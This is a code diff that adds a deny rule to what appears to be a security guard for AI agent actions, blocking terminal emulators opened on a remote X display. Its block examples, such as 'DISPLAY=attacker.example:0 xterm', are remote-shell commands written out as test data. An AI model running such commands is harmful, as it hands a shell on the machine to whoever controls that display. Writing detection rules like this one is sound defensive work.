@@ -89,6 +89,30 @@ export const remoteShell: readonly AnyRule[] = [
     },
   }),
   rule({
+    id: "remote-shell/foreign-display",
+    title: "A terminal on somebody else's screen",
+    severity: "critical",
+    decision: "deny",
+    owasp: ["ASI05", "ASI10"],
+    attack: "T1059.004",
+    why: "Whoever sits at that screen gets a shell on this machine.",
+    instead: "There is no ordinary use for this here.",
+    on: run(["xterm", "uxterm", "rxvt", "urxvt", "st", "konsole", "gnome-terminal"]),
+    match: (action) => {
+      const given = words(action);
+      const at = given.findIndex((word) => /^--?display(?:=|$)/.test(word));
+      const named = at < 0 ? action.environment.get("DISPLAY") : undefined;
+      const display = at < 0 ? (named ? show(named) : "") : (given[at]?.split("=")[1] ?? given[at + 1] ?? "");
+      return /^(?!localhost|127\.|unix|\[::1\])[\w.[\]-]+:\d/.test(display)
+        ? `opens a terminal at ${display}`
+        : null;
+    },
+    examples: {
+      block: ["xterm -display 10.0.0.1:1", "DISPLAY=attacker.example:0 xterm"],
+      allow: ["xterm -display :0", "xterm -e top", "DISPLAY=:1 xterm"],
+    },
+  }),
+  rule({
     id: "guard/unguarded-shell",
     title: "A shell started through another program",
     severity: "high",
